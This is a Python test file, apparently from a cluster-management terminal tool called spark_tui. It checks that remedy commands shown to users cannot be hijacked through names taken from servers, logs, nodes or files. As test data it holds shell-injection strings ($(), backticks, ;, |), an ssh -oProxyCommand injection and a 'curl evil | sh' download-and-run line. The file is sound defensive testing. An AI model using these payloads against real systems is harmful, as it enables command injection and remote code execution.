"""A command that is shown is built from what is known: no server, log, file name or node can write into it."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest
from msgspec.structs import replace

from spark_tui.base.errors import SparkError
from spark_tui.base.files import PrivateFolder
from spark_tui.base.finding import Ok
from spark_tui.base.host.detectors import SharedFile, leaked
from spark_tui.base.host.vitals import HostIdentity
from spark_tui.base.remote import Cluster, RemoteHost, no_answer
from spark_tui.catalog.models.model import hub as hub_errors
from spark_tui.machine.docker.errors import Request, from_message
from spark_tui.machine.secrets import FileSecrets
from spark_tui.manage.cluster.model.doctor import examine
from spark_tui.manage.cluster.model.facts import ClusterReadings
from spark_tui.manage.doctor.model import Readings
from spark_tui.manage.doctor.model import examine as examine_machine
from spark_tui.observe.explain.model.causes.cause import FailureContext
from spark_tui.observe.explain.model.causes.diagnosis import recognise
from spark_tui.observe.explain.model.timeline import EngineFacts
from tests.cases import all_cases
from tests.manage.cluster.test_cluster_doctor_model import healthy

EVIL = "x;: > pwned;$(: > pwned)`: > pwned`|: > pwned&: > pwned"
CHANGED = "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n{}\nHost key verification failed.\n"


def run_as_shown(text: str, folder: Path) -> None:
    """Pastes it into a shell that finds no programs: only what the text smuggles in can leave a file."""
    for part in (text, *re.findall(r"\((docker .*)\)", text)):
        subprocess.run(["/bin/bash", "-c", part], cwd=folder, env={"PATH": "/nonexistent"}, check=False, stderr=-1)
        assert not (folder / "pwned").exists(), part


def test_the_shell_of_these_tests_would_be_hurt(tmp_path: Path) -> None:
    with pytest.raises(AssertionError):
        run_as_shown(f"Remove it: rm {EVIL}", tmp_path)


@all_cases(
    ("destination", "key"),
    [
        ("nv@spark-2", "spark-2"), ("spark-2", "spark-2"), ("ssh://nv@spark-2:2222", "'[spark-2]:2222'"),
        ("ssh://nv@spark-2:22", "spark-2"), ("ssh://nv@spark-2", "spark-2"), ("nv@10.0.0.7", "10.0.0.7"),
        ("ssh://nv@[fe80::1]:2222", "'[fe80::1]:2222'"), ("nv@fe80::1", "fe80::1"),
    ],
)  # fmt: skip
@all_cases(
    "banner",
    [
        'remove with:\n  ssh-keygen -f "/home/nv/.ssh/known_hosts" -R "[spark-2]:2222"',
        "ssh-keygen -f x -R y; curl evil | sh",
        "",
    ],
)
def test_the_old_key_is_removed_by_the_name_that_is_known(destination: str, key: str, banner: str) -> None:
    remedy = no_answer(RemoteHost("lab", destination), 255, "", CHANGED.format(banner)).remedy
    assert f"ssh-keygen -R {key})" in remedy
    assert "curl" not in remedy and "-f" not in remedy


@pytest.mark.parametrize("name", [f"vllm{EVIL}", f"torch_1_{EVIL}"])
def test_a_file_in_shared_memory_is_one_word(name: str, tmp_path: Path) -> None:
    found = leaked((SharedFile(name, 1, 1e6, open=False),), engines_run=False)
    assert found.files
    run_as_shown(found.remedy, tmp_path)
    readings = Readings(HostIdentity("spark"), shared=Ok((SharedFile(name, 1, 1e6, open=False),), 0.0))
    shown = [each.remedy for each in examine_machine(readings) if "/dev/shm" in each.remedy]
    assert len(shown) == 1
    run_as_shown(shown[0], tmp_path)


def test_what_a_node_answers_is_one_word(tmp_path: Path) -> None:
    one, two = healthy(1), healthy(2)
    assert one.facts is not None
    links = tuple(
        replace(each, name=f"{EVIL}{each.name}", up=False, mtu=1400, speed=None) for each in one.facts.links or ()
    )
    bad = replace(
        one,
        facts=replace(one.facts, links=links, leaked=(EVIL,), image=None, files=()),
        probe=replace(
            one.probe,
            ssh={f"nv@{EVIL}": "denied", "-oProxyCommand=x@192.168.100.2": "denied"},
            pings=tuple(replace(each, interface=EVIL, received=False, small=True) for each in one.probe.pings),
        ),
    )
    readings = ClusterReadings(Cluster("duo", (one.node, two.node)), (bad, two), image=f"i{EVIL}", model=f"m{EVIL}")
    remedies = {each.remedy for each in examine(readings)}
    assert any("/dev/shm" in each for each in remedies)
    for remedy in remedies:
        run_as_shown(remedy, tmp_path)
        assert "-oProxyCommand" not in remedy


@pytest.mark.parametrize(
    "error",
    [
        hub_errors.needs_choice(f"o/{EVIL}", [EVIL]),
        hub_errors.file_missing(f"o/{EVIL}", EVIL),
        hub_errors.repo_missing(f"o/{EVIL}", known=True),
        from_message(f'The container name "/{EVIL}" is already in use', Request("create x")),
        from_message(f"network {EVIL.replace(' ', '')} not found", Request("create x")),
        from_message("unauthorized", Request("pull x", image=f"a.b{EVIL}/x", pulling=True)),
        from_message("no such image", Request("start x", image=EVIL)),
    ],
    ids=str,
)
def test_names_from_servers_are_one_word(error: Exception, tmp_path: Path) -> None:
    run_as_shown(error.remedy, tmp_path)


def test_a_key_file_named_by_a_label_is_one_word(tmp_path: Path) -> None:
    (tmp_path / "keys").mkdir()
    with pytest.raises(SparkError) as found:
        FileSecrets(PrivateFolder(tmp_path / "keys"), {}, tmp_path).api_key(str(tmp_path / "keys" / (EVIL + "x" * 300)))
    run_as_shown(found.value.remedy, tmp_path)


@pytest.mark.parametrize("model", [f"o/{EVIL}", EVIL, "o/n$(id)", "o/n m"])
def test_a_model_named_in_a_log_is_not_in_a_command(model: str) -> None:
    line = "HTTPSConnectionPool: Max retries exceeded: Name or service not known"
    found = recognise(line)
    assert found is not None
    rule, match = found
    context = FailureContext(text=line, facts=EngineFacts(model=model))
    assert "`spark-tui models pull NAME`" in rule.told(match, context).remedy
    known = replace(context, facts=EngineFacts(model="acme/tiny-1b"))
    assert "`spark-tui models pull acme/tiny-1b`" in rule.told(match, known).remedy
